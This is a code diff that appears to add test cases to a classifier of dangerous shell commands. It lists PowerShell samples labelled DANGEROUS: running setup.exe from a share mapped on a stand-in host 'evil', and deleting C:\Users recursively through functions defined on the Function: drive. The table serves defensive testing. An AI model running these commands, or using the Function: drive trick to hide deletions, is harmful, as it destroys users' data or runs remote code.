@@ -3645,6 +3645,12 @@ ORDINARY += [
 # A program started on a drive mapped to a share (S-RULE-93).
 DANGEROUS += [("PowerShell", _ps(r"net use Z: \\evil\share; Set-Location Z:\; .\setup.exe"), "remote-code")]
 
+# A function defined through the Function: drive (S-RULE-94).
+DANGEROUS += [
+    ("PowerShell", _ps(r"$function:x = 'rm C:\Users -r'; x"), "protected-place-delete"),
+    ("PowerShell", _ps(r"Set-Content function:x 'rm C:\Users -r'; x"), "protected-place-delete"),
+]
+
 CATEGORY_OF: dict[str, str] = {
     "recursive-delete": "destruction",
     "wildcard-delete": "destruction",
